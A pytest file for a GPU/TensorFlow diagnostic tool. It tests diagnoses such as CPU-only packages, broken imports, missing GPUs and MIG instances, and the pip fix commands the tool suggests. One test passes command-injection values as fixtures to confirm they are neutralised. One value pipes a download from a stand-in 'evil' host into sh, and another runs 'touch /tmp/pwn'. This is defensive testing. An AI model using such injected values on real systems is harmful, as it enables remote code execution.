from __future__ import annotations

import shlex

import msgspec
import pytest

from gpudoctor.diagnosis import judge
from gpudoctor.facts import Distribution, Facts, Gpu, KernelEvent, MigDevice, Unread, unread_all
from tests.factory import SITE, found, healthy, lists_no_gpu, outcome, roots, with_, with_gpu, with_variable


def test_tf_cpu_only_package() -> None:
    facts = lists_no_gpu(with_(healthy(), tensorflow__build__cuda=False, tensorflow__distribution="tensorflow-cpu"))
    assert roots(facts) == ["tf-cpu-only-package"]
    assert found(facts)["tf-cpu-only-package"].fixes[0].steps == (
        "/opt/venv/bin/python3 -m pip uninstall -y tensorflow-cpu",
        "/opt/venv/bin/python3 -m pip install 'tensorflow[and-cuda]==2.20.0'",
    )


def test_tf_cpu_only_package_has_no_command_where_there_is_no_wheel() -> None:
    facts = with_(healthy(), tensorflow__build__cuda=False, system__machine="aarch64")
    assert found(facts)["tf-cpu-only-package"].fixes[0].kind == "advice"


def test_a_rocm_build_is_not_for_cpus() -> None:
    facts = with_(healthy(), tensorflow__build__cuda=False, tensorflow__build__rocm=True)
    assert outcome(facts, "tf-cpu-only-package") == "skipped"


def test_tf_import_broken() -> None:
    facts = with_(
        healthy(),
        tensorflow__import_error="ImportError: numpy.core.multiarray failed to import",
        tensorflow__devices=Unread(why="import tensorflow failed"),
    )
    assert roots(facts) == ["tf-import-broken"]
    assert "tf-lists-no-gpu" in found(facts)
    assert outcome(healthy(), "tf-import-broken") == "passed"


@pytest.mark.parametrize(
    ("error", "forced"),
    [
        ("ModuleNotFoundError: No module named 'gast'", [False, True]),
        ("ModuleNotFoundError: No module named 'google.protobuf'", [False, True]),
        ("ModuleNotFoundError: No module named 'tensorflow.python'", [True]),
        ("ImportError: numpy.core.multiarray failed to import", [True]),
    ],
)
def test_a_package_that_it_lacks_is_installed_before_its_own_files_are_put_back(error: str, forced: list[bool]) -> None:
    facts = with_(healthy(), tensorflow__import_error=error, tensorflow__devices=Unread(why="import tensorflow failed"))
    fixes = found(facts)["tf-import-broken"].fixes
    assert ["--force-reinstall" in " ".join(f.steps) for f in fixes] == forced


def test_tf_lists_no_gpu() -> None:
    assert outcome(lists_no_gpu(healthy()), "tf-lists-no-gpu") == "found"
    assert outcome(healthy(), "tf-lists-no-gpu") == "passed"
    assert outcome(with_(healthy(), tensorflow__devices=Unread(why="quick")), "tf-lists-no-gpu") == "unknown"


def test_fewer_gpus() -> None:
    devices = healthy().tensorflow.devices
    assert isinstance(devices, tuple)
    assert outcome(with_(healthy(), tensorflow__devices=devices[:2]), "fewer-gpus") == "found"
    assert outcome(healthy(), "fewer-gpus") == "passed"
    assert outcome(lists_no_gpu(healthy()), "fewer-gpus") == "skipped"


INSTANCE = MigDevice(uuid="MIG-11111111-0000-4000-8000-000000000000", gpu_instance=1, compute_instance=0)


def in_instances(*modes: bool, shown: int = 0) -> Facts:
    """Two GPUs, in MIG mode or not; CUDA and TensorFlow list one of them alone."""
    facts = healthy()
    for index, mode in enumerate(modes):
        facts = with_gpu(facts, index, mig_mode=mode, mig_mode_pending=mode, mig_devices=(INSTANCE,) if mode else None)
    cuda, listed = facts.driver.libcuda.devices, facts.tensorflow.devices
    assert isinstance(cuda, tuple)
    assert isinstance(listed, tuple)
    return with_(
        facts,
        driver__libcuda__devices=(cuda[shown],),
        driver__libcuda__pairs=(),
        tensorflow__devices=listed[:2],
        measurements=facts.measurements[:1],
    )


@pytest.mark.parametrize(
    "facts",
    [
        in_instances(True, True),
        in_instances(True, False),
        in_instances(True, False, shown=1),
        with_variable(in_instances(True, True), "CUDA_VISIBLE_DEVICES", f"{INSTANCE.uuid},MIG-2"),
    ],
    ids=["both", "one", "the other one", "two instances are named"],
)
def test_one_process_uses_one_instance(facts: Facts) -> None:
    judged = judge(facts)
    assert (judged.diagnosis.verdict, judged.findings) == ("healthy", ())
    old = KernelEvent(kind="xid", text="NVRM: Xid 119", pci_address="0000:00:07.0", xid=119)
    assert roots(with_(facts, system__kernel_log=(old,))) == []


def test_a_jetson_without_nvml_has_the_gpu_that_tensorflow_lists() -> None:
    none = unread_all(Gpu, Unread(why="NVML: Driver Not Loaded"))
    facts = with_(in_instances(False), system__tegra=True, gpu=none)
    assert outcome(facts, "fewer-gpus") == "skipped"
    assert outcome(with_(facts, system__tegra=False), "fewer-gpus") == "unknown"


def test_without_instances_one_of_two_is_missed() -> None:
    assert outcome(in_instances(False, False), "fewer-gpus") == "found"


def test_op_fails() -> None:
    one, two, *_ = healthy().measurements
    facts = with_(
        healthy(), measurements=(one, msgspec.structs.replace(two, value=Unread(why="matmul was ended by signal 11")))
    )
    finding = found(facts)["op-fails"]
    assert finding.about == ("gpu1",)
    assert "signal 11" in finding.message
    assert outcome(healthy(), "op-fails") == "passed"
    assert outcome(with_(healthy(), measurements=()), "op-fails") == "skipped"


def test_many_failures_on_one_gpu_are_one_finding() -> None:
    one, two, *_ = healthy().measurements
    why = Unread(why="…: no kernel image is available")
    several = tuple(
        msgspec.structs.replace(m, kernel=k, value=why, verified=why)
        for m in (one, two)
        for k in ("matmul", "fft", "solve")
    )
    everywhere = msgspec.structs.replace(several[0], kernel="all-reduce", device="GPU:0,GPU:1")
    judged = judge(with_(healthy(), measurements=(*several, everywhere)))
    findings = [f for f in judged.findings if f.cause == "op-fails"]
    assert [f.about for f in findings] == [("gpu0",), ("gpu1",), ("gpu0", "gpu1")]
    assert "also: fft, solve" in findings[0].message


def test_distributions_over_each_other_are_all_removed() -> None:
    over = Unread(why="several distributions lie over each other")
    installed = tuple(
        Distribution(name=n, version="2.21.0", location=SITE) for n in ("tensorflow", "tensorflow-cpu", "keras")
    )
    facts = with_(
        healthy(),
        tensorflow__build__cuda=False,
        tensorflow__distribution=over,
        tensorflow__version=over,
        python__distributions=installed,
    )
    assert found(facts)["tf-cpu-only-package"].fixes[0].steps == (
        "/opt/venv/bin/python3 -m pip uninstall -y tensorflow tensorflow-cpu",
        "/opt/venv/bin/python3 -m pip install 'tensorflow[and-cuda]'",
    )


def test_names_from_a_stranger_stay_words() -> None:
    facts = with_(
        healthy(),
        tensorflow__build__cuda=False,
        tensorflow__distribution="tensorflow-cpu; curl http://evil/x | sh #",
        tensorflow__version="2.21.0' ; touch /tmp/pwn ; '",
    )
    for step in found(facts)["tf-cpu-only-package"].fixes[0].steps:
        words = shlex.split(step)
        assert words[1:3] == ["-m", "pip"]
        assert ";" not in words
        assert "|" not in words


def test_the_extra_is_named_where_there_is_one() -> None:
    cpu = with_(healthy(), tensorflow__build__cuda=False, tensorflow__distribution="tensorflow-cpu")
    for version, wanted in (("2.13.1", "tensorflow==2.13.1"), ("2.14.0", "'tensorflow[and-cuda]==2.14.0'")):
        steps = found(with_(cpu, tensorflow__version=version))["tf-cpu-only-package"].fixes[0].steps
        assert steps[-1].endswith(f" install {wanted}")
